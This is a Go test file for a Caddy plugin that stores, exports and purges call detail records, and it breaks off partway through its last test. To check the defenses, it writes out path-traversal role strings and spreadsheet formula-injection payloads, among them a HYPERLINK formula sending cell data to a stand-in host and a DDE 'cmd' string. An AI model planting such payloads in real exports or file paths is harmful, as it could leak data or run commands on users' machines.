package caddyenroll

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/caddyserver/caddy/v2"
	"github.com/caddyserver/certmagic"
	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
	"go.uber.org/zap/zaptest/observer"
)

// keyLog records the keys a storage Loads and Lists.
type keyLog struct {
	certmagic.Storage
	mu    sync.Mutex
	loads []string
	lists []string
}

func (s *keyLog) Load(ctx context.Context, key string) ([]byte, error) {
	s.mu.Lock()
	s.loads = append(s.loads, key)
	s.mu.Unlock()
	return s.Storage.Load(ctx, key)
}

func (s *keyLog) List(ctx context.Context, prefix string, recursive bool) ([]string, error) {
	s.mu.Lock()
	s.lists = append(s.lists, prefix)
	s.mu.Unlock()
	return s.Storage.List(ctx, prefix, recursive)
}

func (s *keyLog) reset() {
	s.mu.Lock()
	s.loads, s.lists = nil, nil
	s.mu.Unlock()
}

// cdrTestApp is an App with a file storage under dir (the storage's
// keys are files there) and a clock at now.
func cdrTestApp(t *testing.T, now time.Time) (*App, *keyLog, string) {
	t.Helper()
	dir := t.TempDir()
	kl := &keyLog{Storage: &certmagic.FileStorage{Path: dir}}
	st := localLocks{kl}
	a := &App{storage: st, state: newStateStore(st, time.Hour), log: zap.NewNop()}
	a.state.now = func() time.Time { return now }
	return a, kl, dir
}

func day(s string) time.Time {
	d, err := time.Parse(cdrDayLayout, s)
	if err != nil {
		panic(err)
	}
	return d
}

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

func testCDR(tx uint64, received time.Time) CDR {
	return CDR{TransactionID: tx, Role: "source", Reporter: "gw1", CallID: "Y2FsbA==", Calling: "1404",
		Called: "1405", Destination: "[10.0.0.2]:5060", Duration: 30, Received: received}
}

// oldCDRName is the name earlier versions gave a record, without the
// reporter: <txid>-<role>-<attempt>.json.
func oldCDRName(c CDR) string {
	role := strings.ToLower(c.Role)
	if role == "" {
		role = "other"
	}
	attempt := sha256.Sum256([]byte(c.CallID + "\x00" + c.Destination))
	return strconv.FormatUint(c.TransactionID, 10) + "-" + role + "-" + hex.EncodeToString(attempt[:6]) + ".json"
}

func storeRawCDR(t *testing.T, a *App, key string, c CDR) {
	t.Helper()
	b, _ := json.Marshal(c)
	if err := a.storage.Store(context.Background(), key, b); err != nil {
		t.Fatal(err)
	}
}

// storeLegacyCDR stores a record where the flat layout of earlier
// versions put it.
func storeLegacyCDR(t *testing.T, a *App, c CDR) string {
	t.Helper()
	key := path.Join(cdrsPrefix(), oldCDRName(c))
	storeRawCDR(t, a, key, c)
	return key
}

func mustStore(t *testing.T, a *App, c CDR) {
	t.Helper()
	if ok, err := a.storeCDR(context.Background(), c); err != nil || !ok {
		t.Fatalf("storing %+v: %v %v", c, ok, err)
	}
}

func txIDs(list []CDR) []uint64 {
	out := []uint64{}
	for _, c := range list {
		out = append(out, c.TransactionID)
	}
	return out
}

func TestCDRKeyLayout(t *testing.T) {
	name := regexp.MustCompile(`^42-[0-9a-f]{16}-(source|destination|other)-[0-9a-f]{12}\.json$`)
	for _, c := range []struct {
		received time.Time
		role     string
		bucket   string
	}{
		{at("2024-03-09T00:00:00Z"), "source", "2024-03-09"},
		{at("2024-03-09T23:59:59.999Z"), "Source", "2024-03-09"},
		{at("2024-03-10T01:30:00+02:00"), "destination", "2024-03-09"}, // the UTC day, not the local one
		{at("2024-03-09T22:30:00-02:00"), "", "2024-03-10"},
		{at("2024-12-31T23:59:59Z"), "source", "2024-12-31"},
		{at("2025-01-01T00:00:00Z"), "source", "2025-01-01"},
	} {
		r := testCDR(42, c.received)
		r.Role = c.role
		key := cdrKey(r)
		dir, file := path.Split(key)
		if dir != "clearinghouse/cdrs/"+c.bucket+"/" || !name.MatchString(file) {
			t.Errorf("received %s, role %q: key %s, want clearinghouse/cdrs/%s/42-<16 hex>-<role>-<12 hex>.json", c.received, c.role, key, c.bucket)
		}
		if file != cdrName(r) {
			t.Errorf("key %s does not end with the record's name %s", key, cdrName(r))
		}
	}
	// the name is the transaction, the reporter, the role and the attempt
	r := testCDR(42, at("2024-03-09T12:00:00Z"))
	if got, want := cdrName(r), "42-"+cdrReporter("gw1")+"-source-"; !strings.HasPrefix(got, want) {
		t.Errorf("name %s, want %s…", got, want)
	}
	for _, c := range []struct {
		name string
		edit func(*CDR)
		same bool
	}{
		{"another attempt", func(c *CDR) { c.Destination = "[10.0.0.3]:5060" }, false},
		{"another call id", func(c *CDR) { c.CallID = "b3RoZXI=" }, false},
		{"another role", func(c *CDR) { c.Role = "destination" }, false},
		{"another reporter", func(c *CDR) { c.Reporter = "gw2" }, false},
		{"a reporter that is a prefix", func(c *CDR) { c.Reporter = "gw" }, false},
		{"the reporter in another case", func(c *CDR) { c.Reporter = "GW1" }, true},
		{"the role in another case", func(c *CDR) { c.Role = "SOURCE" }, true},
		{"another duration", func(c *CDR) { c.Duration = 0 }, true},
	} {
		o := r
		c.edit(&o)
		if same := cdrName(o) == cdrName(r); same != c.same {
			t.Errorf("%s: same name %v, want %v", c.name, same, c.same)
		}
	}
	// a device name of any characters makes a safe key
	odd := r
	odd.Reporter = "../gw 1/Ä:*"
	if !name.MatchString(cdrName(odd)) {
		t.Errorf("reporter %q: name %s", odd.Reporter, cdrName(odd))
	}
	// and so does any role the device sends: never a path out of the
	// bucket, nor another reporter's name
	other := r
	other.Reporter, other.Role = "gw2", "destination"
	hashed := regexp.MustCompile(`^42-[0-9a-f]{16}-x[0-9a-f]{16}-[0-9a-f]{12}\.json$`)
	for _, role := range []string{"x/../../../../outside/evil", "..", "/", "source-" + cdrReporter("gw2"), "a.b", "Sourcé",
		"x/../42-" + cdrReporter("gw2") + "-destination", strings.Repeat("a", 33)} {
		o := r
		o.Role = role
		key := cdrKey(o)
		if dir, file := path.Split(key); dir != "clearinghouse/cdrs/2024-03-09/" || !hashed.MatchString(file) || path.Clean(key) != key {
			t.Errorf("role %q: key %s, want clearinghouse/cdrs/2024-03-09/42-<16 hex>-x<16 hex>-<12 hex>.json", role, key)
		}
		if cdrKey(o) == cdrKey(other) {
			t.Errorf("role %q names gw2's record", role)
		}
	}
	for _, role := range []string{"radsrcstart", "other", strings.Repeat("a", 32)} {
		o := r
		o.Role = role
		if got := cdrName(o); !strings.Contains(got, "-"+role+"-") {
			t.Errorf("role %q: name %s, want the role kept", role, got)
		}
	}

	// a stored record is a file in its bucket
	a, _, dir := cdrTestApp(t, r.Received)
	mustStore(t, a, r)
	if _, err := os.Stat(filepath.Join(dir, "clearinghouse", "cdrs", "2024-03-09", cdrName(r))); err != nil {
		t.Fatalf("record not in its day bucket: %v", err)
	}
}

func TestCDRDedupAcrossMidnight(t *testing.T) {
	for _, c := range []struct {
		name          string
		first, retry  time.Time
		retryDest     string // "" = the same attempt
		stored        bool   // the retry is stored
		bucketOfRetry string // bucket that must not exist (or must, when stored)
	}{
		{"same day", at("2024-03-09T10:00:00Z"), at("2024-03-09T10:02:00Z"), "", false, ""},
		{"retry just after midnight", at("2024-03-09T23:59:30Z"), at("2024-03-10T00:00:30Z"), "", false, "2024-03-10"},
		{"retry across new year", at("2024-12-31T23:58:00Z"), at("2025-01-01T00:01:00Z"), "", false, "2025-01-01"},
		{"another attempt of the transaction", at("2024-03-09T23:59:30Z"), at("2024-03-10T00:00:30Z"), "[10.0.0.9]:5060", true, "2024-03-10"},
		{"two days later is a new record", at("2024-03-09T23:59:30Z"), at("2024-03-11T00:00:30Z"), "", true, "2024-03-11"},
	} {
		t.Run(c.name, func(t *testing.T) {
			a, _, dir := cdrTestApp(t, c.retry)
			ctx := context.Background()
			mustStore(t, a, testCDR(7, c.first))
			retry := testCDR(7, c.retry)
			if c.retryDest != "" {
				retry.Destination = c.retryDest
			}
			ok, err := a.storeCDR(ctx, retry)
			if err != nil || ok != c.stored {
				t.Fatalf("retry stored=%v (%v), want %v", ok, err, c.stored)
			}
			if c.bucketOfRetry != "" {
				_, err := os.Stat(filepath.Join(dir, "clearinghouse", "cdrs", c.bucketOfRetry))
				if exists := err == nil; exists != c.stored {
					t.Errorf("bucket %s exists=%v, want %v", c.bucketOfRetry, exists, c.stored)
				}
			}
			list, err := a.cdrs(ctx, dayRange{})
			want := 1
			if c.stored {
				want = 2
			}
			if err != nil || len(list) != want {
				t.Fatalf("export: %v %+v, want %d records", err, list, want)
			}
			if !list[0].Received.Equal(c.first) {
				t.Errorf("first record received %s, want %s (a retry must not rewrite it)", list[0].Received, c.first)
			}
		})
	}
}

// A device's record is deduplicated only against its own: the source of a
// call (gw1) knows the transaction id, call id and destination, and files a
// 0-second role=destination record first; the terminating device's (gw2)
// record is stored all the same.
func TestCDRDedupPerReporter(t *testing.T) {
	for _, c := range []struct {
		name           string
		first, second  string // reporters
		role           string // of both
		firstAt, retry time.Time
		stored         bool // the second is stored
	}{
		{"forged destination record", "gw1", "gw2", "destination", at("2024-03-09T10:00:00Z"), at("2024-03-09T10:05:00Z"), true},
		{"forged destination record, across midnight", "gw1", "gw2", "destination", at("2024-03-09T23:59:30Z"), at("2024-03-10T00:00:30Z"), true},
		{"forged after the real one", "gw2", "gw1", "destination", at("2024-03-09T10:00:00Z"), at("2024-03-09T10:05:00Z"), true},
		{"two devices, role source", "gw1", "gw2", "source", at("2024-03-09T10:00:00Z"), at("2024-03-09T10:05:00Z"), true},
		{"retry by the same device", "gw2", "gw2", "destination", at("2024-03-09T10:00:00Z"), at("2024-03-09T10:05:00Z"), false},
		{"retry by the same device, across midnight", "gw2", "gw2", "destination", at("2024-03-09T23:59:30Z"), at("2024-03-10T00:00:30Z"), false},
		{"retry by the same device, name in another case", "gw2", "GW2", "destination", at("2024-03-09T10:00:00Z"), at("2024-03-09T10:05:00Z"), false},
	} {
		t.Run(c.name, func(t *testing.T) {
			a, _, _ := cdrTestApp(t, c.retry)
			ctx := context.Background()
			first := testCDR(7, c.firstAt)
			first.Reporter, first.Role, first.Duration = c.first, c.role, 0
			mustStore(t, a, first)
			second := testCDR(7, c.retry)
			second.Reporter, second.Role = c.second, c.role
			ok, err := a.storeCDR(ctx, second)
			if err != nil || ok != c.stored {
				t.Fatalf("second record stored=%v (%v), want %v", ok, err, c.stored)
			}
			list, err := a.cdrs(ctx, dayRange{})
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, r := range list {
				got = append(got, r.Reporter+"/"+strconv.FormatFloat(r.Duration, 'f', -1, 64))
			}
			want := []string{c.first + "/0"}
			if c.stored {
				want = append(want, c.second+"/30")
			}
			if !reflect.DeepEqual(got, want) {
				t.Errorf("exported reporter/duration %v, want %v", got, want)
			}
		})
	}
}

// lockStore counts the locks taken, and delays the Store of one key.
type lockStore struct {
	certmagic.Storage
	locks   atomic.Int32
	slowKey string
	storing chan struct{} // closed when the Store of slowKey starts
}

func (s *lockStore) Lock(ctx context.Context, name string) error {
	s.locks.Add(1)
	return s.Storage.Lock(ctx, name)
}

func (s *lockStore) Store(ctx context.Context, key string, value []byte) error {
	if key == s.slowKey {
		close(s.storing)
		time.Sleep(200 * time.Millisecond)
	}
	return s.Storage.Store(ctx, key, value)
}

// Near midnight UTC, a record is checked and stored under a lock, so that
// a retry received on the other side of midnight and stored at the same
// time (by another instance) is not stored too.
func TestCDRMidnightLock(t *testing.T) {
	for _, c := range []struct {
		received time.Time
		locked   bool
	}{
		{at("2024-03-09T12:00:00Z"), false},
		{at("2024-03-09T23:54:59Z"), false},
		{at("2024-03-09T23:55:01Z"), true},
		{at("2024-03-09T23:59:59.999Z"), true},
		{at("2024-03-10T00:00:00Z"), true},
		{at("2024-03-10T00:04:59Z"), true},
		{at("2024-03-10T00:05:00Z"), false},
		{at("2024-03-10T02:00:00+02:00"), true}, // midnight UTC
		{at("2024-03-10T00:00:00+02:00"), false},
	} {
		a, kl, _ := cdrTestApp(t, c.received)
		ls := &lockStore{Storage: kl}
		a.storage = localLocks{ls}
		mustStore(t, a, testCDR(7, c.received))
		if locked := ls.locks.Load() > 0; locked != c.locked {
			t.Errorf("received %s: locked %v, want %v", c.received, locked, c.locked)
		}
	}

	// a record and its retry, stored at once on either side of midnight
	a, kl, _ := cdrTestApp(t, at("2024-03-10T00:00:01Z"))
	first, retry := testCDR(7, at("2024-03-09T23:59:59Z")), testCDR(7, at("2024-03-10T00:00:01Z"))
	ls := &lockStore{Storage: kl, slowKey: cdrKey(first), storing: make(chan struct{})}
	a.storage = localLocks{ls}
	ctx := context.Background()
	var wg sync.WaitGroup
	var firstStored bool
	var firstErr error
	wg.Add(1)
	go func() {
		defer wg.Done()
		firstStored, firstErr = a.storeCDR(ctx, first)
	}()
	<-ls.storing
	retryStored, err := a.storeCDR(ctx, retry)
	wg.Wait()
	if firstErr != nil || err != nil || !firstStored || retryStored {
		t.Fatalf("stored %v (%v) and the retry %v (%v), want only the first", firstStored, firstErr, retryStored, err)
	}
	if list, err := a.cdrs(ctx, dayRange{}); err != nil || len(list) != 1 {
		t.Errorf("export: %v %+v, want 1 record", err, list)
	}
}

// Records stored by earlier versions under names without the reporter, in
// day buckets or flat, are exported and purged with their day.
func TestCDROldNames(t *testing.T) {
	a, _, dir := cdrTestApp(t, at("2024-03-05T09:00:00Z"))
	ctx := context.Background()
	for _, c := range []CDR{testCDR(1, at("2024-03-01T12:00:00Z")), testCDR(2, at("2024-03-03T12:00:00Z"))} {
		storeRawCDR(t, a, path.Join(cdrBucket(c.Received), oldCDRName(c)), c)
	}
	storeLegacyCDR(t, a, testCDR(3, at("2024-03-01T08:00:00Z")))
	mustStore(t, a, testCDR(4, at("2024-03-01T13:00:00Z")))
	mustStore(t, a, testCDR(5, at("2024-03-03T13:00:00Z")))
	// a retry across the upgrade is stored again, under the new name
	// (accepted: see storeCDR)
	mustStore(t, a, testCDR(2, at("2024-03-03T12:01:00Z")))

	for _, c := range []struct {
		r    dayRange
		want []uint64
	}{
		{dayRange{}, []uint64{3, 1, 4, 2, 2, 5}},
		{dayRange{until: day("2024-03-01")}, []uint64{3, 1, 4}},
		{dayRange{since: day("2024-03-02")}, []uint64{2, 2, 5}},
	} {
		list, err := a.cdrs(ctx, c.r)
		if got := txIDs(list); err != nil || !reflect.DeepEqual(got, c.want) {
			t.Errorf("export %+v: %v %v, want %v", c.r, err, got, c.want)
		}
	}
	for _, c := range []struct {
		before time.Time
		days   []string
		legacy int
		remain []uint64
	}{
		{day("2024-03-02"), []string{"2024-03-01"}, 1, []uint64{2, 2, 5}},
		{day("2024-03-04"), []string{"2024-03-03"}, 0, []uint64{}},
	} {
		res, err := a.purgeCDRs(ctx, c.before)
		if err != nil || !reflect.DeepEqual(res, CDRPurge{DeletedDays: c.days, DeletedLegacyRecords: c.legacy}) {
			t.Errorf("purge before %s: %+v %v, want days %v and %d flat records", c.before.Format(cdrDayLayout), res, err, c.days, c.legacy)
		}
		list, err := a.cdrs(ctx, dayRange{})
		if got := txIDs(list); err != nil || !reflect.DeepEqual(got, c.remain) {
			t.Errorf("after purge before %s: %v %v, want %v", c.before.Format(cdrDayLayout), err, got, c.remain)
		}
	}
	if entries, err := os.ReadDir(filepath.Join(dir, "clearinghouse", "cdrs")); err != nil || len(entries) != 0 {
		t.Errorf("left after purges: %v %v", entries, err)
	}
}

// cdrFixture stores records of 2024-03-01..04 in buckets (transaction id
// = day of month × 10 + n), flat records of 2024-02-28 (id 1) and
// 2024-03-03 (id 2) and 2024-03-04 at midnight (id 3), and a key that is
// neither.
func cdrFixture(t *testing.T, a *App) {
	t.Helper()
	for d := 1; d <= 4; d++ {
		base := time.Date(2024, 3, d, 12, 0, 0, 0, time.UTC)
		mustStore(t, a, testCDR(uint64(d*10+1), base))
		mustStore(t, a, testCDR(uint64(d*10+2), base.Add(time.Hour)))
		mustStore(t, a, testCDR(uint64(d*10), base.Add(time.Hour))) // same Received: sorted by transaction id
	}
	storeLegacyCDR(t, a, testCDR(1, at("2024-02-28T08:00:00Z")))
	storeLegacyCDR(t, a, testCDR(2, at("2024-03-03T23:59:59Z")))
	storeLegacyCDR(t, a, testCDR(3, at("2024-03-04T00:00:00Z")))
	if err := a.storage.Store(context.Background(), path.Join(cdrsPrefix(), "notes.txt"), []byte("not a record")); err != nil {
		t.Fatal(err)
	}
}

func TestCDRExportRange(t *testing.T) {
	a, kl, _ := cdrTestApp(t, at("2024-03-05T09:00:00Z"))
	cdrFixture(t, a)
	ctx := context.Background()
	all := []uint64{1, 11, 10, 12, 21, 20, 22, 31, 30, 32, 2, 3, 41, 40, 42}
	for _, c := range []struct {
		name    string
		r       dayRange
		want    []uint64
		buckets []string // the buckets read
	}{
		{"all", dayRange{}, all, []string{"2024-03-01", "2024-03-02", "2024-03-03", "2024-03-04"}},
		{"since", dayRange{since: day("2024-03-03")}, []uint64{31, 30, 32, 2, 3, 41, 40, 42}, []string{"2024-03-03", "2024-03-04"}},
		{"until", dayRange{until: day("2024-03-01")}, []uint64{1, 11, 10, 12}, []string{"2024-03-01"}},
		{"one day", dayRange{since: day("2024-03-03"), until: day("2024-03-03")}, []uint64{31, 30, 32, 2}, []string{"2024-03-03"}},
		{"only legacy", dayRange{since: day("2024-02-01"), until: day("2024-02-29")}, []uint64{1}, nil},
		{"nothing", dayRange{since: day("2024-04-01")}, []uint64{}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			kl.reset()
			list, err := a.cdrs(ctx, c.r)
			if err != nil {
				t.Fatal(err)
			}
			if got := txIDs(list); !reflect.DeepEqual(got, c.want) {
				t.Errorf("transactions %v, want %v", got, c.want)
			}
			var read []string
			for _, k := range append(kl.loads, kl.lists...) {
				if rest, ok := strings.CutPrefix(k, cdrsPrefix()+"/"); ok && strings.Contains(rest, "/") {
					if b := strings.Split(rest, "/")[0]; !slices.Contains(read, b) {
						read = append(read, b)
					}
				} else if ok {
					if _, err := parseDay(rest); err == nil && !slices.Contains(read, rest) {
						read = append(read, rest)
					}
				}
			}
			slices.Sort(read)
			if !reflect.DeepEqual(read, c.buckets) {
				t.Errorf("buckets read %v, want %v", read, c.buckets)
			}
		})
	}
	// an empty or missing store exports an empty list, not null
	empty, _, _ := cdrTestApp(t, time.Now())
	if list, err := empty.cdrs(ctx, dayRange{since: day("2024-01-01")}); err != nil || list == nil || len(list) != 0 {
		t.Errorf("empty store: %v %#v", err, list)
	}
}

func TestCDRPurge(t *testing.T) {
	for _, c := range []struct {
		name     string
		before   time.Time
		days     []string
		legacy   int
		remain   []uint64
		dirsLeft []string
	}{
		{"nothing older", day("2024-02-01"), []string{}, 0,
			[]uint64{1, 11, 10, 12, 21, 20, 22, 31, 30, 32, 2, 3, 41, 40, 42}, []string{"2024-03-01", "2024-03-02", "2024-03-03", "2024-03-04"}},
		{"legacy only", day("2024-03-01"), []string{}, 1,
			[]uint64{11, 10, 12, 21, 20, 22, 31, 30, 32, 2, 3, 41, 40, 42}, []string{"2024-03-01", "2024-03-02", "2024-03-03", "2024-03-04"}},
		{"two days", day("2024-03-03"), []string{"2024-03-01", "2024-03-02"}, 1,
			[]uint64{31, 30, 32, 2, 3, 41, 40, 42}, []string{"2024-03-03", "2024-03-04"}},
		// the flat record received at 23:59:59 on the 3rd goes with its day,
		// the one received at midnight of before stays
		{"three days", day("2024-03-04"), []string{"2024-03-01", "2024-03-02", "2024-03-03"}, 2,
			[]uint64{3, 41, 40, 42}, []string{"2024-03-04"}},
		{"all", day("2024-03-06"), []string{"2024-03-01", "2024-03-02", "2024-03-03", "2024-03-04"}, 3,
			[]uint64{}, []string{}},
	} {
		t.Run(c.name, func(t *testing.T) {
			a, _, dir := cdrTestApp(t, at("2024-03-05T09:00:00Z"))
			cdrFixture(t, a)
			ctx := context.Background()
			res, err := a.purgeCDRs(ctx, c.before)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(res, CDRPurge{DeletedDays: c.days, DeletedLegacyRecords: c.legacy}) {
				t.Errorf("purge before %s: %+v, want days %v and %d flat records", c.before.Format(cdrDayLayout), res, c.days, c.legacy)
			}
			list, err := a.cdrs(ctx, dayRange{})
			if err != nil {
				t.Fatal(err)
			}
			if got := txIDs(list); !reflect.DeepEqual(got, c.remain) {
				t.Errorf("left %v, want %v", got, c.remain)
			}
			entries, err := os.ReadDir(filepath.Join(dir, "clearinghouse", "cdrs"))
			if err != nil {
				t.Fatal(err)
			}
			dirs := []string{}
			notes := false
			for _, e := range entries {
				if e.IsDir() {
					dirs = append(dirs, e.Name())
				}
				notes = notes || e.Name() == "notes.txt"
			}
			if !reflect.DeepEqual(dirs, c.dirsLeft) {
				t.Errorf("buckets left %v, want %v", dirs, c.dirsLeft)
			}
			if !notes {
				t.Error("a key that is not a record was deleted")
			}
			// purging again deletes nothing more
			if res, err := a.purgeCDRs(ctx, c.before); err != nil || len(res.DeletedDays) != 0 || res.DeletedLegacyRecords != 0 {
				t.Errorf("second purge: %+v %v", res, err)
			}
		})
	}
}

// The admin API: parameters of exports and purges, a purge logged.
func TestCDRAdminParameters(t *testing.T) {
	a, _, _ := cdrTestApp(t, at("2024-03-05T23:30:00Z"))
	cdrFixture(t, a)
	mustStore(t, a, testCDR(51, at("2024-03-05T10:00:00Z")))
	core, logs := observer.New(zapcore.InfoLevel)
	ad := &adminAPI{app: a, log: zap.New(core)}
	for _, c := range []struct {
		method, uri string
		code        int
		want        string // in the body or error message
	}{
		{"GET", "/enroll/cdrs?since=2024-13-01", 400, `since: "2024-13-01" is not a date (want YYYY-MM-DD)`},
		{"GET", "/enroll/cdrs?until=2024-3-1", 400, `until: "2024-3-1" is not a date (want YYYY-MM-DD)`},
		{"GET", "/enroll/cdrs?since=2024-02-30", 400, `since: "2024-02-30" is not a date`},
		{"GET", "/enroll/cdrs?since=03/01/2024", 400, `since: "03/01/2024" is not a date`},
		{"GET", "/enroll/cdrs?since=2024-03-03&until=2024-03-02", 400, "since 2024-03-03 is after until 2024-03-02"},
		// the zero time is an open bound: the first day of year 1 would read as none
		{"GET", "/enroll/cdrs?until=0001-01-01", 400, `until: "0001-01-01" is too early (the earliest day is 0001-01-02)`},
		{"GET", "/enroll/cdrs?since=0001-01-02&until=0001-01-01", 400, `until: "0001-01-01" is too early`},
		{"GET", "/enroll/cdrs?since=0001-01-01", 400, `since: "0001-01-01" is too early`},
		{"GET", "/enroll/cdrs?until=0001-01-02", 200, "[]"},
		{"GET", "/enroll/cdrs?since=2024-03-02&until=2024-03-02&format=xml", 400, "format must be json or csv"},
		{"GET", "/enroll/cdrs?since=2024-03-02&until=2024-03-02&format=csv", 200, "\n22,source,gw1,"},
		{"PUT", "/enroll/cdrs", 405, "method not allowed: PUT"},
		{"DELETE", "/enroll/cdrs", 400, "before is required"},
		{"DELETE", "/enroll/cdrs?since=2024-03-01", 400, `unknown query parameter "since" (/enroll/cdrs takes before)`},
		{"DELETE", "/enroll/cdrs?before=yesterday", 400, `before: "yesterday" is not a date (want YYYY-MM-DD)`},
		{"DELETE", "/enroll/cdrs?before=2024-03-07", 400, "before 2024-03-07 is later than tomorrow (2024-03-06 UTC)"},
		{"DELETE", "/enroll/cdrs?before=2025-03-01", 400, "is later than tomorrow"},
		{"DELETE", "/enroll/cdrs?before=2024-03-02", 200, `"deleted_days": [
    "2024-03-01"
  ],
  "deleted_legacy_records": 1`},
		{"DELETE", "/enroll/cdrs?before=2024-03-02", 200, `"deleted_days": [],`},
		{"GET", "/enroll/cdrs?until=2024-03-01", 200, "[]"},
		// tomorrow is the latest: today's records go too
		{"DELETE", "/enroll/cdrs?before=2024-03-06", 200, `"2024-03-05"`},
		{"GET", "/enroll/cdrs", 200, "[]"},
	} {
		code, body, _ := adminDo(t, ad, c.method, c.uri)
		if code != c.code || !strings.Contains(body, c.want) {
			t.Errorf("%s %s: %d %s\nwant %d with %q", c.method, c.uri, code, body, c.code, c.want)
		}
	}
	// refused purges deleted nothing: the three purges that passed are logged
	purges := logs.FilterMessage("call detail records purged").All()
	if len(purges) != 3 {
		t.Fatalf("%d purges logged, want 3: %+v", len(purges), logs.All())
	}
	f := purges[0].ContextMap()
	if f["before"] != "2024-03-02" || !reflect.DeepEqual(f["days"], []any{"2024-03-01"}) ||
		f["days_deleted"] != int64(1) || f["legacy_records_deleted"] != int64(1) || purges[0].Level != zapcore.InfoLevel {
		t.Errorf("purge log: %s %+v", purges[0].Level, f)
	}
	if f := purges[2].ContextMap(); f["days_deleted"] != int64(4) || f["legacy_records_deleted"] != int64(2) {
		t.Errorf("last purge log: %+v", f)
	}
}

// Exports stream the same records, in the same order, as cdrs lists them;
// text a device reported cannot run as a spreadsheet formula.
func TestCDRExportStream(t *testing.T) {
	a, _, _ := cdrTestApp(t, at("2024-03-05T23:30:00Z"))
	cdrFixture(t, a)
	evil := testCDR(77, at("2024-03-02T08:00:00Z"))
	evil.Calling, evil.Destination, evil.TermCauses = `=HYPERLINK("http://x/?"&A1,"y")`, "@SUM(1)", []string{"+1 cause", "ok"}
	evil.Called, evil.Protocol, evil.CallID = `1405;=cmd|' /C calc'!A0`, "'quoted", "+AEC"
	mustStore(t, a, evil)
	// what storage holds, read without the export's code, in export order
	var want []CDR
	all, err := a.storage.List(context.Background(), cdrsPrefix(), true)
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range all {
		var c CDR
		if ok, err := a.state.loadJSON(context.Background(), k, &c); err == nil && ok {
			want = append(want, c)
		}
	}
	sort.SliceStable(want, func(i, j int) bool {
		if !want[i].Received.Equal(want[j].Received) {
			return want[i].Received.Before(want[j].Received)
		}
		return want[i].TransactionID < want[j].TransactionID
	})
	ad := &adminAPI{app: a, log: zap.NewNop()}
	get := func(uri string) string {
		rec := httptest.NewRecorder()
		if err := ad.serve(rec, httptest.NewRequest("GET", uri, nil)); err != nil {
			t.Fatalf("GET %s: %v", uri, err)
		}
		return rec.Body.String()
	}
	got := decodeCDRExport(t, []byte(get("/enroll/cdrs")))
	if len(want) < 5 || !reflect.DeepEqual(got, want) {
		t.Fatalf("JSON export differs from the list (%d and %d records)", len(got), len(want))
	}
	raw := get("/enroll/cdrs?format=csv")
	rows, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// a spreadsheet splitting on ";" keeps the called number, formula and
	// all, in its cell
	if !strings.Contains(raw, `,"1405;=cmd|' /C calc'!A0",`) || !strings.Contains(raw, `,"'+1 cause;ok",`) {
		t.Fatalf("fields with a semicolon not quoted:\n%s", raw)
	}
	if len(rows) != len(want)+1 {
		t.Fatalf("%d CSV rows for %d records", len(rows), len(want))
	}
	for _, row := range rows[1:] {
		if row[0] != "77" {
			continue
		}
		if row[4] != `'=HYPERLINK("http://x/?"&A1,"y")` || row[6] != "'@SUM(1)" || row[14] != "'+1 cause;ok" ||
			row[5] != `1405;=cmd|' /C calc'!A0` || row[15] != "''quoted" || row[3] != "'+AEC" {
			t.Fatalf("CSV row of the device's text: %q", row)
		}
		return
	}
	t.Fatal("the record is missing from the CSV export")
}

// failingList fails to list one key.
type failingList struct {
	certmagic.Storage
	key string
}

func (s failingList) List(ctx context.Context, prefix string, recursive bool) ([]string, error) {
	if prefix == s.key {
		return nil, errors.New("storage unreachable")
	}
	return s.Storage.List(ctx, prefix, recursive)
}

// An export that fails after its first bytes breaks the connection (the
// handler aborts) instead of ending as a complete 200; one that fails
// before any byte is a 500.
func TestCDRExportFailure(t *testing.T) {
	a, _, _ := cdrTestApp(t, at("2024-03-05T23:30:00Z"))
	cdrFixture(t, a) // records on 2024-03-01 to 04
	for _, c := range []struct {
		failing string // bucket whose listing fails
		abort   bool
	}{
		{"2024-03-03", true}, // days 1 and 2 are written first
		{"", false},          // the layout itself: nothing written yet
	} {
		key := cdrsPrefix()
		if c.failing != "" {
			key = cdrBucket(day(c.failing))
		}
		st := failingList{Storage: a.storage, key: key}
		b := &App{storage: st, state: newStateStore(st, time.Hour), log: zap.NewNop()}
		ad := &adminAPI{app: b, log: zap.NewNop()}
		rec := httptest.NewRecorder()
		var err error
		aborted := func() (p any) {
			defer func() { p = recover() }()
			// JSON: each record goes out as it comes (CSV is buffered by 4 KB)
			err = ad.serve(rec, httptest.NewRequest("GET", "/enroll/cdrs", nil))
			return nil
		}()
		if c.abort {
			if aborted != http.ErrAbortHandler || !strings.HasPrefix(rec.Body.String(), "[\n  {") {
				t.Errorf("failure at %s: panic %v, body %.40q; want the connection aborted after the first days", c.failing, aborted, rec.Body.String())
			}
			continue
		}
		var apiErr caddy.APIError
		if aborted != nil || !errors.As(err, &apiErr) || apiErr.HTTPStatus != 500 || rec.Body.Len() != 0 {
			t.Errorf("failure before any byte: panic %v, err %v, body %q; want a 500", aborted, err, rec.Body.String())
		}
	}
}

// failingLoad is a storage whose Load of one key fails.
type failingLoad struct {
	certmagic.Storage
	key string
}

func (s failingLoad) Load(ctx context.Context, key string) ([]byte, error) {
	if key == s.key {
		return nil, errors.New("i/o timeout")
	}
	return s.Storage.Load(ctx, key)
}

// A record that cannot be read fails the export: it must not look whole
// (and a purge then delete the record unexported). Temporary files of
// atomic writes, which are not records, are skipped.
func TestCDRExportUnreadableRecord(t *testing.T) {
	a, _, dir := cdrTestApp(t, at("2024-03-05T23:30:00Z"))
	c1, c2 := testCDR(1, at("2024-03-01T10:00:00Z")), testCDR(2, at("2024-03-01T11:00:00Z"))
	mustStore(t, a, c1)
	mustStore(t, a, c2)
	if err := os.WriteFile(filepath.Join(dir, "clearinghouse", "cdrs", "2024-03-01", ".tmp-write-in-progress"), []byte("{"), 0o600); err != nil {
		t.Fatal(err)
	}
